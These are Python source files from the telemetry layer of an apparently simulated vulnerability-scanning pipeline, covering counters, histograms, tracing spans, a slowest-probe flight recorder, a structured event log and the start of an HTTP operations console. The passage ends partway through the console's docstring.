  retry/circuit-breaker and chaos-fault counters, honeypot activity).

:class:`~repro.obs.telemetry.Telemetry` bundles the three behind one
handle that every instrumented layer shares, snapshots through
:mod:`repro.core.checkpoint`, and exports as JSONL, Prometheus text
exposition, or a human-readable funnel table.

On top of the pillars sit the diagnostic layers:

* :mod:`repro.obs.profile` — flamegraph-style span rollups with dual
  SimClock/wall-time accounting;
* :mod:`repro.obs.flight` — the flight recorder (bounded record of the
  slowest probes with their full event context);
* :mod:`repro.obs.console` — the live operations endpoint serving
  metrics, funnel, quarantine, and shard progress over HTTP.
"""

from repro.obs.events import Event, EventLog
from repro.obs.flight import FlightRecorder
from repro.obs.metrics import Counter, Gauge, Histogram, MetricsRegistry
from repro.obs.profile import ProfileRollup, WallProfile, wall_now
from repro.obs.telemetry import FUNNEL_STAGES, Telemetry, TelemetrySummary
from repro.obs.trace import Span, Tracer

__all__ = [
    "Event",
    "EventLog",
    "Counter",
    "FlightRecorder",
    "Gauge",
    "Histogram",
    "MetricsRegistry",
    "ProfileRollup",
    "Span",
    "Tracer",
    "Telemetry",
    "TelemetrySummary",
    "WallProfile",
    "FUNNEL_STAGES",
    "wall_now",
]
