"""The metrics registry: counters, gauges, fixed-bucket histograms.

Everything numeric the runtime wants to expose lives here, keyed by
``(name, sorted labels)``.  Buckets are fixed at creation (no dynamic
rebinning), values come only from instrumented code charged to the
SimClock, and every accessor iterates in sorted key order — so snapshots
and the Prometheus exposition are deterministic across identical runs.
"""

from __future__ import annotations

from typing import Iterable

#: default latency buckets, simulated seconds (retry backoff and chaos
#: slow-responses are the only things that advance the clock mid-probe)
DEFAULT_BUCKETS: tuple[float, ...] = (
    0.05, 0.25, 1.0, 5.0, 15.0, 60.0, 300.0, 1800.0,
)

_LabelKey = tuple[tuple[str, str], ...]


def _label_key(labels: dict[str, object]) -> _LabelKey:
    return tuple(sorted((k, str(v)) for k, v in labels.items()))


def flat_name(name: str, labels: _LabelKey) -> str:
    """Canonical flattened series name: ``name{k=v,k2=v2}``."""
    if not labels:
        return name
    inner = ",".join(f"{k}={v}" for k, v in labels)
    return f"{name}{{{inner}}}"


class Counter:
    """Monotonically increasing value."""

    __slots__ = ("value",)

    def __init__(self) -> None:
        self.value: float = 0.0

    def inc(self, amount: float = 1.0) -> None:
        if amount < 0:
            raise ValueError("counters only go up")
        self.value += amount


class Gauge:
    """A value that can go up and down."""

    __slots__ = ("value",)

    def __init__(self) -> None:
        self.value: float = 0.0

    def set(self, value: float) -> None:
        self.value = value

    def inc(self, amount: float = 1.0) -> None:
        self.value += amount

    def dec(self, amount: float = 1.0) -> None:
        self.value -= amount


class Histogram:
    """Fixed-bucket histogram (cumulative-at-export, like Prometheus)."""

    __slots__ = ("bounds", "counts", "total", "count")

    def __init__(self, bounds: Iterable[float] = DEFAULT_BUCKETS) -> None:
        self.bounds = tuple(sorted(float(b) for b in bounds))
        if not self.bounds:
            raise ValueError("a histogram needs at least one bucket bound")
        #: per-bucket counts; the extra slot is the +Inf overflow bucket
        self.counts = [0] * (len(self.bounds) + 1)
        self.total = 0.0
        self.count = 0

    def observe(self, value: float) -> None:
        for index, bound in enumerate(self.bounds):
            if value <= bound:
                self.counts[index] += 1
                break
        else:
            self.counts[-1] += 1
        self.total += value
        self.count += 1

    def cumulative(self) -> list[tuple[float, int]]:
        """(upper bound, cumulative count) pairs, ending with +Inf."""
        out = []
        running = 0
        for bound, count in zip(self.bounds, self.counts):
            running += count
            out.append((bound, running))
        out.append((float("inf"), running + self.counts[-1]))
        return out


class MetricsRegistry:
    """Lazily-created, labelled metric families."""

    def __init__(self) -> None:
        self._counters: dict[tuple[str, _LabelKey], Counter] = {}
        self._gauges: dict[tuple[str, _LabelKey], Gauge] = {}
        self._histograms: dict[tuple[str, _LabelKey], Histogram] = {}

    # -- creation / lookup ---------------------------------------------------

    def counter(self, name: str, **labels: object) -> Counter:
        key = (name, _label_key(labels))
        metric = self._counters.get(key)
        if metric is None:
            metric = self._counters[key] = Counter()
        return metric

    def gauge(self, name: str, **labels: object) -> Gauge:
        key = (name, _label_key(labels))
        metric = self._gauges.get(key)
        if metric is None:
            metric = self._gauges[key] = Gauge()
        return metric

    def histogram(
        self,
        name: str,
        buckets: Iterable[float] | None = None,
        **labels: object,
    ) -> Histogram:
        key = (name, _label_key(labels))
        metric = self._histograms.get(key)
        if metric is None:
            metric = self._histograms[key] = Histogram(
                buckets if buckets is not None else DEFAULT_BUCKETS
            )
        return metric

    # -- read accessors (0 for series never touched) -------------------------

    def counter_value(self, name: str, **labels: object) -> float:
        metric = self._counters.get((name, _label_key(labels)))
        return metric.value if metric is not None else 0.0

    def gauge_value(self, name: str, **labels: object) -> float:
        metric = self._gauges.get((name, _label_key(labels)))
        return metric.value if metric is not None else 0.0

    def histogram_count(self, name: str, **labels: object) -> int:
        metric = self._histograms.get((name, _label_key(labels)))
        return metric.count if metric is not None else 0

    def counters_flat(self) -> dict[str, float]:
        """Every counter series under its canonical flattened name."""
        return {
            flat_name(name, labels): metric.value
            for (name, labels), metric in sorted(self._counters.items())
        }

    # -- shard folding -------------------------------------------------------

    def absorb(self, other: "MetricsRegistry") -> None:
        """Fold another registry into this one (the shard-merge step).

        Counters and gauges add; histograms add bucket-wise and therefore
        require identical bounds.  Iteration is in sorted key order so the
        series created by the fold appear in a canonical order regardless
        of how the absorbed registry was populated.
        """
        for key, counter in sorted(other._counters.items()):
            mine = self._counters.get(key)
            if mine is None:
                mine = self._counters[key] = Counter()
            mine.value += counter.value
        for key, gauge in sorted(other._gauges.items()):
            mine = self._gauges.get(key)
            if mine is None:
                mine = self._gauges[key] = Gauge()
            mine.value += gauge.value
        for key, histogram in sorted(other._histograms.items()):
            mine = self._histograms.get(key)
            if mine is None:
                mine = self._histograms[key] = Histogram(histogram.bounds)
            if mine.bounds != histogram.bounds:
                raise ValueError(
                    f"cannot absorb histogram {key[0]!r}: bucket bounds differ"
                )
            mine.counts = [
                a + b for a, b in zip(mine.counts, histogram.counts)
            ]
            mine.total += histogram.total
            mine.count += histogram.count

    # -- exposition ----------------------------------------------------------

    def to_prometheus(self) -> str:
        """Prometheus text exposition (types annotated, sorted series)."""
        lines: list[str] = []
        seen_types: set[str] = set()

        def type_line(name: str, kind: str) -> None:
            if name not in seen_types:
                lines.append(f"# TYPE {name} {kind}")
                seen_types.add(name)

        def label_text(labels: _LabelKey, extra: tuple[tuple[str, str], ...] = ()) -> str:
            pairs = labels + extra
            if not pairs:
                return ""
            return (
                "{"
                + ",".join(f'{k}="{_escape_label(v)}"' for k, v in pairs)
                + "}"
            )

        for (name, labels), counter in sorted(self._counters.items()):
            type_line(name, "counter")
            lines.append(f"{name}{label_text(labels)} {_num(counter.value)}")
        for (name, labels), gauge in sorted(self._gauges.items()):
            type_line(name, "gauge")
            lines.append(f"{name}{label_text(labels)} {_num(gauge.value)}")
        for (name, labels), histogram in sorted(self._histograms.items()):
            type_line(name, "histogram")
            for bound, cumulative in histogram.cumulative():
                le = "+Inf" if bound == float("inf") else _num(bound)
                lines.append(
                    f"{name}_bucket{label_text(labels, (('le', le),))} {cumulative}"
                )
            lines.append(f"{name}_sum{label_text(labels)} {_num(histogram.total)}")
            lines.append(f"{name}_count{label_text(labels)} {histogram.count}")
        return "\n".join(lines) + ("\n" if lines else "")

    # -- checkpoint support --------------------------------------------------

    def snapshot_state(self) -> dict:
        return {
            "counters": [
                [name, [list(p) for p in labels], metric.value]
                for (name, labels), metric in sorted(self._counters.items())
            ],
            "gauges": [
                [name, [list(p) for p in labels], metric.value]
                for (name, labels), metric in sorted(self._gauges.items())
            ],
            "histograms": [
                [
                    name,
                    [list(p) for p in labels],
                    list(metric.bounds),
                    list(metric.counts),
                    metric.total,
                    metric.count,
                ]
                for (name, labels), metric in sorted(self._histograms.items())
            ],
        }

    def restore_state(self, state: dict) -> None:
        self._counters.clear()
        self._gauges.clear()
        self._histograms.clear()
        for name, labels, value in state["counters"]:
            key = (name, tuple((k, v) for k, v in labels))
            counter = self._counters[key] = Counter()
            counter.value = value
        for name, labels, value in state["gauges"]:
            key = (name, tuple((k, v) for k, v in labels))
            self._gauges[key] = gauge = Gauge()
            gauge.value = value
        for name, labels, bounds, counts, total, count in state["histograms"]:
            key = (name, tuple((k, v) for k, v in labels))
            histogram = self._histograms[key] = Histogram(bounds)
            histogram.counts = list(counts)
            histogram.total = total
            histogram.count = count


def _num(value: float) -> str:
    """Render ``3.0`` as ``3`` but keep real fractions exact."""
    if float(value).is_integer():
        return str(int(value))
    return repr(float(value))


def _escape_label(value: str) -> str:
    """Escape a label value per the Prometheus text exposition format.

    Backslash, double quote, and newline are the three characters the
    format requires escaping inside quoted label values.
    """
    return (
        value.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")
    )
