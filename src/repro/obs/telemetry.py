"""One handle bundling the event log, tracer, and metrics registry.

Every instrumented layer — stage I-III, the retry executor, the chaos
transport, the honeypot fleet — shares a single :class:`Telemetry`, so
cross-layer views (the stage funnel, retry counters next to chaos fault
counters) come for free.  The handle snapshots/restores as one unit for
checkpoint/resume and exports three ways:

* :meth:`Telemetry.export_jsonl` — the full record, one JSON object per
  line (events and finished spans);
* :meth:`Telemetry.export_prometheus` — text exposition of the registry;
* :meth:`Telemetry.funnel_table` — the human-readable stage funnel.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field

from repro.obs.events import EventLog
from repro.obs.flight import DEFAULT_CAPACITY, FlightRecorder
from repro.obs.metrics import MetricsRegistry, _label_key, flat_name
from repro.obs.trace import Span, Tracer
from repro.util.clock import SimClock
from repro.util.tables import Table

#: pipeline stages in funnel order
FUNNEL_STAGES: tuple[str, ...] = ("masscan", "prefilter", "tsunami")

#: counter family holding the per-stage host flow
FUNNEL_METRIC = "funnel_hosts_total"


@dataclass
class TelemetrySummary:
    """The numeric residue of a run, carried on the ScanReport.

    Counters are flattened to their canonical series names
    (``name{label=value}``), which keeps the summary JSON-safe and
    mergeable — the same contract as
    :class:`~repro.core.retry.RetryStats`.
    """

    counters: dict[str, float] = field(default_factory=dict)
    events: int = 0
    spans: int = 0

    def merge(self, other: "TelemetrySummary") -> None:
        for name, value in other.counters.items():
            self.counters[name] = self.counters.get(name, 0.0) + value
        self.events += other.events
        self.spans += other.spans

    def copy(self) -> "TelemetrySummary":
        return TelemetrySummary(dict(self.counters), self.events, self.spans)

    def counter(self, name: str, **labels: object) -> float:
        return self.counters.get(flat_name(name, _label_key(labels)), 0.0)

    def funnel(self, stage: str, flow: str) -> float:
        return self.counter(FUNNEL_METRIC, flow=flow, stage=stage)

    def to_dict(self) -> dict:
        return {
            "counters": {k: self.counters[k] for k in sorted(self.counters)},
            "events": self.events,
            "spans": self.spans,
        }

    @classmethod
    def from_dict(cls, payload: dict) -> "TelemetrySummary":
        return cls(
            counters=dict(payload.get("counters", {})),
            events=payload.get("events", 0),
            spans=payload.get("spans", 0),
        )


class _FlightTap:
    """Span listener feeding finished probe spans to the flight recorder.

    On a probe span's start it marks the event log and exchange buffer;
    on its end it hands the recorder the span plus everything logged in
    that window.  Non-probe spans pass through untouched, so the tap adds
    no cost to the canonical pillars.
    """

    def __init__(self, events: EventLog, flight: FlightRecorder) -> None:
        self.events = events
        self.flight = flight
        #: (span_id, event mark, exchange mark) for open probe spans
        self._marks: list[tuple[int, int, int]] = []

    def on_start(self, span: Span) -> None:
        if span.name.startswith("probe:"):
            self._marks.append(
                (span.span_id, len(self.events), self.flight.exchange_mark())
            )

    def on_end(self, span: Span) -> None:
        if self._marks and self._marks[-1][0] == span.span_id:
            _, event_mark, exchange_mark = self._marks.pop()
            self.flight.record(
                span, self.events.events[event_mark:], exchange_mark
            )


class Telemetry:
    """Shared observability handle: events + spans + metrics + flight."""

    def __init__(
        self,
        clock: SimClock | None = None,
        events_level: str = "info",
        flight_capacity: int = DEFAULT_CAPACITY,
    ) -> None:
        self.clock = clock
        self.events = EventLog(clock=clock, min_level=events_level)
        self.tracer = Tracer(clock=clock)
        self.metrics = MetricsRegistry()
        self.flight = FlightRecorder(capacity=flight_capacity)
        self.tracer.listener = _FlightTap(self.events, self.flight)

    # -- cross-pillar helpers ------------------------------------------------

    def funnel(
        self, stage: str, hosts_in: int, hosts_out: int, quarantined: int = 0
    ) -> None:
        """Charge one stage's host flow: in = out + dropped + quarantined.

        The ``quarantined`` flow is only materialised when non-zero, so
        sweeps without a supervisor export exactly the series they always
        did.
        """
        if hosts_out + quarantined > hosts_in:
            raise ValueError(
                f"stage {stage!r} emitted more hosts "
                f"({hosts_out} out + {quarantined} quarantined) "
                f"than it received ({hosts_in})"
            )
        metric = self.metrics.counter
        metric(FUNNEL_METRIC, stage=stage, flow="in").inc(hosts_in)
        metric(FUNNEL_METRIC, stage=stage, flow="out").inc(hosts_out)
        metric(FUNNEL_METRIC, stage=stage, flow="dropped").inc(
            hosts_in - hosts_out - quarantined
        )
        if quarantined:
            metric(FUNNEL_METRIC, stage=stage, flow="quarantined").inc(quarantined)

    def summary(self) -> TelemetrySummary:
        return TelemetrySummary(
            counters=self.metrics.counters_flat(),
            events=len(self.events),
            spans=len(self.tracer.finished),
        )

    # -- exporters -----------------------------------------------------------

    def export_jsonl(self) -> str:
        """Events then finished spans, one JSON object per line."""
        lines = [
            json.dumps(
                {"kind": "event", **e.to_dict()},
                sort_keys=True, separators=(", ", ": "),
            )
            for e in self.events
        ]
        lines.extend(
            json.dumps(
                {"kind": "span", **s.to_dict()},
                sort_keys=True, separators=(", ", ": "),
            )
            for s in self.tracer.finished
        )
        return "\n".join(lines) + ("\n" if lines else "")

    def export_prometheus(self) -> str:
        return self.metrics.to_prometheus()

    def funnel_table(self, title: str = "Stage funnel (hosts)") -> Table:
        table = Table(
            title, ("stage", "hosts in", "hosts out", "dropped", "quarantined")
        )
        value = self.metrics.counter_value
        for stage in FUNNEL_STAGES:
            table.add_row(
                stage,
                int(value(FUNNEL_METRIC, stage=stage, flow="in")),
                int(value(FUNNEL_METRIC, stage=stage, flow="out")),
                int(value(FUNNEL_METRIC, stage=stage, flow="dropped")),
                int(value(FUNNEL_METRIC, stage=stage, flow="quarantined")),
            )
        return table

    def export(self, fmt: str) -> str:
        """Dispatch by format name (the CLI's ``--telemetry`` values)."""
        if fmt == "jsonl":
            return self.export_jsonl()
        if fmt == "prometheus":
            return self.export_prometheus()
        if fmt == "funnel":
            return self.funnel_table().render() + "\n"
        raise ValueError(f"unknown telemetry format {fmt!r}")

    # -- shard folding -------------------------------------------------------

    def absorb(self, other: "Telemetry") -> None:
        """Fold another handle's record into this one, pillar by pillar.

        This is the sanctioned merge step for shard-local telemetry: the
        parallel engine gives every shard its own :class:`Telemetry` and
        absorbs them on the main thread in canonical shard order, so the
        merged events/spans/metrics are identical for any worker count.
        """
        self.events.absorb(other.events)
        self.tracer.absorb(other.tracer)
        self.metrics.absorb(other.metrics)
        self.flight.absorb(other.flight)

    def absorb_state(self, state: dict) -> None:
        """Absorb a telemetry snapshot (a shard result that round-tripped
        through checkpoint serialisation)."""
        shard = Telemetry()
        shard.restore_state(state)
        self.absorb(shard)

    # -- checkpoint support --------------------------------------------------

    def snapshot_state(self) -> dict:
        return {
            "events": self.events.snapshot_state(),
            "tracer": self.tracer.snapshot_state(),
            "metrics": self.metrics.snapshot_state(),
            "flight": self.flight.snapshot_state(),
        }

    def restore_state(self, state: dict) -> None:
        self.events.restore_state(state["events"])
        self.tracer.restore_state(state["tracer"])
        self.metrics.restore_state(state["metrics"])
        # Snapshots written before the flight recorder carry no block.
        flight = state.get("flight")
        if flight is not None:
            self.flight.restore_state(flight)
