"""Nested tracing spans charged to the SimClock.

The span hierarchy mirrors the pipeline's control flow::

    sweep
    ├── stage:masscan (one per batch accumulation)
    └── batch
        ├── stage:prefilter
        └── stage:tsunami
            ├── probe:<slug> (one per plugin run, tagged with the host)
            └── stage:fingerprint (one per stage-II finding)

Durations come from the simulated clock only — they grow when retry
backoff or injected chaos latency advances it — so span timings are as
reproducible as the rest of the run.  Open spans snapshot and restore
through :mod:`repro.core.checkpoint`, which is what lets a killed sweep
resume *inside* its still-open ``sweep`` span.
"""

from __future__ import annotations

from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Iterator

from repro.util.clock import SimClock


@dataclass
class Span:
    """One timed region of the run."""

    span_id: int
    parent_id: int | None
    name: str
    start: float
    end: float | None = None
    attrs: dict[str, object] = field(default_factory=dict)
    #: real perf_counter stamps, set only when the tracer's ``wall_clock``
    #: is armed (profiling).  Deliberately excluded from ``to_dict`` — and
    #: therefore from the JSONL export and every snapshot — because wall
    #: time is nondeterministic and must never leak into canonical output.
    wall_start: float | None = None
    wall_end: float | None = None

    @property
    def duration(self) -> float:
        if self.end is None:
            raise ValueError(f"span {self.name!r} is still open")
        return self.end - self.start

    def to_dict(self) -> dict:
        return {
            "span_id": self.span_id,
            "parent_id": self.parent_id,
            "name": self.name,
            "start": self.start,
            "end": self.end,
            "attrs": {k: self.attrs[k] for k in sorted(self.attrs)},
        }

    @classmethod
    def from_dict(cls, payload: dict) -> "Span":
        return cls(
            span_id=payload["span_id"],
            parent_id=payload["parent_id"],
            name=payload["name"],
            start=payload["start"],
            end=payload["end"],
            attrs=dict(payload["attrs"]),
        )


class Tracer:
    """Maintains the active span stack and the finished-span record."""

    def __init__(self, clock: SimClock | None = None) -> None:
        self.clock = clock
        self._stack: list[Span] = []
        self._finished: list[Span] = []
        self._next_id = 0
        #: optional span observer with ``on_start(span)`` / ``on_end(span)``
        #: methods (the telemetry handle wires the flight recorder here)
        self.listener: object | None = None
        #: optional real-time source (``repro.obs.profile.wall_now``); when
        #: set, spans carry wall stamps alongside their SimClock times
        self.wall_clock = None

    def _now(self) -> float:
        return self.clock.now if self.clock is not None else 0.0

    @property
    def active(self) -> Span | None:
        return self._stack[-1] if self._stack else None

    @property
    def depth(self) -> int:
        return len(self._stack)

    @property
    def finished(self) -> tuple[Span, ...]:
        """Completed spans, in completion order."""
        return tuple(self._finished)

    def start(self, name: str, **attrs: object) -> Span:
        """Open a span as a child of the currently active one."""
        span = Span(
            span_id=self._next_id,
            parent_id=self.active.span_id if self.active else None,
            name=name,
            start=self._now(),
            attrs=dict(attrs),
        )
        self._next_id += 1
        if self.wall_clock is not None:
            span.wall_start = self.wall_clock()
        self._stack.append(span)
        if self.listener is not None:
            self.listener.on_start(span)
        return span

    def end(self, span: Span | None = None) -> Span:
        """Close the innermost open span (which must be ``span`` if given)."""
        if not self._stack:
            raise ValueError("no span is open")
        top = self._stack.pop()
        if span is not None and span is not top:
            self._stack.append(top)
            raise ValueError(
                f"span nesting violated: closing {span.name!r} "
                f"but {top.name!r} is innermost"
            )
        top.end = self._now()
        if self.wall_clock is not None:
            top.wall_end = self.wall_clock()
        self._finished.append(top)
        if self.listener is not None:
            self.listener.on_end(top)
        return top

    @contextmanager
    def span(self, name: str, **attrs: object) -> Iterator[Span]:
        opened = self.start(name, **attrs)
        try:
            yield opened
        except BaseException:
            # An escaping exception (including a simulated kill) may leave
            # abandoned child spans open; unwind them rather than masking
            # the original error with a nesting violation.
            while self._stack and self._stack[-1] is not opened:
                self.end()
            if self._stack and self._stack[-1] is opened:
                self.end(opened)
            raise
        else:
            self.end(opened)

    # -- queries -------------------------------------------------------------

    def spans_named(self, name: str) -> list[Span]:
        return [s for s in self._finished if s.name == name]

    def children_of(self, span: Span) -> list[Span]:
        return [s for s in self._finished if s.parent_id == span.span_id]

    # -- shard folding -------------------------------------------------------

    def absorb(self, other: "Tracer") -> None:
        """Fold another tracer's finished spans into this record.

        Shard tracers number spans from zero, so absorbed span ids (and
        the parent links between them) are rebased past this tracer's id
        space; absorbing shards in canonical order therefore yields the
        same ids for any worker count.
        """
        if other._stack:
            raise ValueError("cannot absorb a tracer with open spans")
        offset = self._next_id
        for span in other._finished:
            self._finished.append(Span(
                span_id=span.span_id + offset,
                parent_id=(
                    None if span.parent_id is None else span.parent_id + offset
                ),
                name=span.name,
                start=span.start,
                end=span.end,
                attrs=dict(span.attrs),
                wall_start=span.wall_start,
                wall_end=span.wall_end,
            ))
        self._next_id += other._next_id

    # -- checkpoint support --------------------------------------------------

    def snapshot_state(self) -> dict:
        """Finished spans plus the still-open stack (a checkpoint may land
        while the sweep-level span is open)."""
        return {
            "next_id": self._next_id,
            "finished": [s.to_dict() for s in self._finished],
            "open": [s.to_dict() for s in self._stack],
        }

    def restore_state(self, state: dict) -> None:
        self._next_id = state["next_id"]
        self._finished = [Span.from_dict(p) for p in state["finished"]]
        self._stack = [Span.from_dict(p) for p in state["open"]]
