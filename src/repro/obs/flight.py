"""The flight recorder: a bounded record of the slowest probes.

An end-of-run report says a sweep took N simulated hours; it cannot say
*which* probes burned them.  The flight recorder keeps, per telemetry
handle (i.e. per shard), the ``capacity`` slowest stage-III probes with
their full context:

* the probe span itself (path, host, port, SimClock window, verdict);
* every HTTP exchange the plugin issued (path, status, body size, or
  the transport error that ate the request);
* every event logged while the probe was open — retry attempts, circuit
  breaker trips, chaos faults, quarantine strikes land here, so a slow
  probe arrives with its excuse attached.

Determinism rules match the rest of :mod:`repro.obs`: durations and
ordering come from the SimClock only, records fold in canonical shard
order (:meth:`FlightRecorder.absorb` keeps the global slowest
``capacity``), and the recorder snapshots/restores through the
checkpoint layer so a killed sweep resumes with its record intact.  The
recorder is *not* part of the canonical report or telemetry JSONL — it
exports separately (``to_dict``/``render``) for artifacts and the
operations console.
"""

from __future__ import annotations

from repro.util.tables import Table

#: slowest probes kept per recorder (and after every fold)
DEFAULT_CAPACITY = 16

#: compaction threshold multiplier: the buffer may grow to
#: ``capacity * _SLACK`` before it is sorted and trimmed
_SLACK = 4


def _record_key(record: dict) -> tuple:
    """Canonical "slowest first" ordering, fully value-determined.

    Slower probes first; ties broken by the probe's own coordinates so
    the order never depends on fold or insertion order.
    """
    return (
        -record["duration"],
        record["start"],
        record.get("host") or "",
        record.get("port") or 0,
        record["name"],
    )


class FlightRecorder:
    """Bounded, deterministic ring of the slowest probe records."""

    def __init__(self, capacity: int = DEFAULT_CAPACITY) -> None:
        if capacity < 1:
            raise ValueError("flight recorder capacity must be at least 1")
        self.capacity = capacity
        self._records: list[dict] = []
        #: exchanges noted since the last probe window closed (transient;
        #: never serialised — probe windows close before checkpoints land)
        self._exchanges: list[dict] = []
        #: probes seen in total, including ones compacted away
        self.probes_seen = 0

    # -- exchange intake (wired through PluginContext) ------------------------

    def exchange_mark(self) -> int:
        """Position marker delimiting one probe's exchange window."""
        return len(self._exchanges)

    def note_exchange(
        self,
        path: str,
        status: int | None = None,
        body_bytes: int | None = None,
        error: str | None = None,
    ) -> None:
        """One plugin HTTP exchange (or its transport failure)."""
        entry: dict = {"path": path}
        if status is not None:
            entry["status"] = status
        if body_bytes is not None:
            entry["body_bytes"] = body_bytes
        if error is not None:
            entry["error"] = error
        self._exchanges.append(entry)

    # -- probe intake ----------------------------------------------------------

    def record(
        self, span, events: tuple, exchange_mark: int
    ) -> None:
        """Capture one finished probe span with its window context."""
        self.probes_seen += 1
        record = {
            "name": span.name,
            "host": str(span.attrs.get("host", "")),
            "port": span.attrs.get("port", 0),
            "start": span.start,
            "duration": span.duration,
            "attrs": {
                k: span.attrs[k]
                for k in sorted(span.attrs)
                if k not in ("host", "port")
            },
            "exchanges": [dict(e) for e in self._exchanges[exchange_mark:]],
            "events": [e.to_dict() for e in events],
        }
        del self._exchanges[exchange_mark:]
        self._records.append(record)
        if len(self._records) > self.capacity * _SLACK:
            self._compact()

    def _compact(self) -> None:
        self._records.sort(key=_record_key)
        del self._records[self.capacity:]

    # -- access ----------------------------------------------------------------

    @property
    def records(self) -> list[dict]:
        """The slowest ``capacity`` records, slowest first."""
        return sorted(self._records, key=_record_key)[: self.capacity]

    def __len__(self) -> int:
        return min(len(self._records), self.capacity)

    # -- shard folding ---------------------------------------------------------

    def absorb(self, other: "FlightRecorder") -> None:
        """Fold another recorder's record in (the shard-merge step).

        Called in canonical shard order by the telemetry fold; the merged
        record keeps the globally slowest ``capacity`` probes under the
        same value-determined ordering, so the result is identical for
        every worker count.
        """
        self._records.extend(dict(r) for r in other._records)
        self.probes_seen += other.probes_seen
        self._compact()

    # -- exports ---------------------------------------------------------------

    def to_dict(self) -> dict:
        return {
            "capacity": self.capacity,
            "probes_seen": self.probes_seen,
            "records": self.records,
        }

    def table(self, title: str = "Flight recorder (slowest probes)") -> Table:
        table = Table(
            title,
            ("probe", "host", "port", "duration", "exchanges", "events"),
        )
        for record in self.records:
            table.add_row(
                record["name"],
                record["host"],
                record["port"],
                f"{record['duration']:.3f}",
                len(record["exchanges"]),
                len(record["events"]),
            )
        return table

    def render(self) -> str:
        return self.table().render()

    # -- checkpoint support ----------------------------------------------------

    def snapshot_state(self) -> dict:
        """Records only — exchange windows never span a checkpoint."""
        return {
            "capacity": self.capacity,
            "probes_seen": self.probes_seen,
            "records": self.records,
        }

    def restore_state(self, state: dict) -> None:
        self.capacity = state["capacity"]
        self.probes_seen = state["probes_seen"]
        self._records = [dict(r) for r in state["records"]]
        self._exchanges = []
