"""The structured event log.

Replaces ad-hoc counters and ``logging`` calls with append-only records
that carry *when* (SimClock seconds), *how bad* (level), *where* (stage),
*who* (host) and arbitrary structured fields.  Records serialise to one
JSON object per line with sorted keys, so two identical runs produce
byte-identical JSONL dumps — the property the checkpoint/resume
acceptance test pins.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Iterator

from repro.util.clock import SimClock

#: severity ranks; events below the log's minimum level are suppressed
LEVELS: dict[str, int] = {"debug": 10, "info": 20, "warn": 30, "error": 40}


@dataclass(frozen=True)
class Event:
    """One structured log record."""

    ts: float
    level: str
    stage: str
    name: str
    host: str | None = None
    fields: tuple[tuple[str, object], ...] = ()

    def to_dict(self) -> dict:
        payload: dict[str, object] = {
            "ts": self.ts,
            "level": self.level,
            "stage": self.stage,
            "event": self.name,
        }
        if self.host is not None:
            payload["host"] = self.host
        if self.fields:
            payload["fields"] = dict(self.fields)
        return payload

    @classmethod
    def from_dict(cls, payload: dict) -> "Event":
        return cls(
            ts=payload["ts"],
            level=payload["level"],
            stage=payload["stage"],
            name=payload["event"],
            host=payload.get("host"),
            fields=tuple(sorted(payload.get("fields", {}).items())),
        )

    def to_json(self) -> str:
        return json.dumps(self.to_dict(), sort_keys=True, separators=(", ", ": "))


class EventLog:
    """Append-only, level-filtered, clock-stamped event collector."""

    def __init__(
        self, clock: SimClock | None = None, min_level: str = "info"
    ) -> None:
        if min_level not in LEVELS:
            raise ValueError(f"unknown level {min_level!r}")
        self.clock = clock
        self.min_level = min_level
        self._events: list[Event] = []
        #: records dropped by the level filter (kept for accounting)
        self.suppressed = 0

    def _now(self) -> float:
        return self.clock.now if self.clock is not None else 0.0

    def emit(
        self,
        level: str,
        stage: str,
        name: str,
        host: object | None = None,
        **fields: object,
    ) -> Event | None:
        """Append one record; returns it, or None when filtered out."""
        if level not in LEVELS:
            raise ValueError(f"unknown level {level!r}")
        if LEVELS[level] < LEVELS[self.min_level]:
            self.suppressed += 1
            return None
        event = Event(
            ts=self._now(),
            level=level,
            stage=stage,
            name=name,
            host=None if host is None else str(host),
            fields=tuple(sorted(fields.items())),
        )
        self._events.append(event)
        return event

    def debug(self, stage: str, name: str, host: object | None = None, **fields):
        return self.emit("debug", stage, name, host, **fields)

    def info(self, stage: str, name: str, host: object | None = None, **fields):
        return self.emit("info", stage, name, host, **fields)

    def warn(self, stage: str, name: str, host: object | None = None, **fields):
        return self.emit("warn", stage, name, host, **fields)

    def error(self, stage: str, name: str, host: object | None = None, **fields):
        return self.emit("error", stage, name, host, **fields)

    # -- access --------------------------------------------------------------

    def __len__(self) -> int:
        return len(self._events)

    def __iter__(self) -> Iterator[Event]:
        return iter(self._events)

    @property
    def events(self) -> tuple[Event, ...]:
        return tuple(self._events)

    def select(
        self,
        stage: str | None = None,
        name: str | None = None,
        level: str | None = None,
    ) -> list[Event]:
        """Filter recorded events (all criteria conjunctive)."""
        return [
            e
            for e in self._events
            if (stage is None or e.stage == stage)
            and (name is None or e.name == name)
            and (level is None or e.level == level)
        ]

    def to_jsonl(self) -> str:
        """One JSON object per line, trailing newline when non-empty."""
        if not self._events:
            return ""
        return "\n".join(e.to_json() for e in self._events) + "\n"

    # -- shard folding -------------------------------------------------------

    def absorb(self, other: "EventLog") -> None:
        """Append another log's records (the shard-merge step).

        Records keep their own shard-local timestamps; ordering within the
        merged log is fold order, which the parallel engine keeps
        canonical by absorbing shards in index order.
        """
        self._events.extend(other._events)
        self.suppressed += other.suppressed

    # -- checkpoint support --------------------------------------------------

    def snapshot_state(self) -> dict:
        return {
            "min_level": self.min_level,
            "suppressed": self.suppressed,
            "events": [e.to_dict() for e in self._events],
        }

    def restore_state(self, state: dict) -> None:
        self.min_level = state["min_level"]
        self.suppressed = state["suppressed"]
        self._events = [Event.from_dict(p) for p in state["events"]]
