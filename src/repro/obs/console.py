"""The live operations console: an HTTP window into a running sweep.

A measurement campaign that runs for days cannot be observed through
end-of-run reports alone.  The console pairs a :class:`ConsoleHub` — a
thread-safe aggregation point the engines notify as shards start,
finish, and fold — with a :class:`ConsoleServer`, a stdlib
``http.server`` endpoint serving:

* ``/metrics`` — Prometheus text exposition of the merged registry;
* ``/funnel`` — the stage funnel (hosts in/out/dropped/quarantined) as
  JSON;
* ``/quarantine`` — the quarantine ledger and supervisor incident
  record as JSON;
* ``/shards`` — per-shard progress (status, frame size, scanned
  addresses, wall seconds when profiling) as JSON;
* ``/flight`` — the flight recorder's slowest probes as JSON;
* ``/`` — a plain-HTML dashboard rendering the same views.

The console is read-only and diagnostic: it never writes into the
pipeline, and nothing it serves feeds canonical output.  Mid-flight its
numbers come from *completed shard payloads* — immutable snapshots
